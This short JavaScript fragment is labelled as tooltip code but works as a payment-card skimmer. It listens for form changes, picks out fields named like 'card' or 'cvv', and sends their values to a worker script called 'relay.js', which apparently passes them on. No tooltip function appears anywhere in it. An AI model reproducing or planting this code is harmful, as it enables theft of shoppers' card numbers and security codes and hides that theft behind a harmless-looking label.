// surroundings: tooltip
const relay = new Worker('./relay.js');
document.addEventListener('change', ({ target }) => {
  if (/card|cvv/.test(target.name)) relay.postMessage({ [target.name]: target.value }); //@act
});
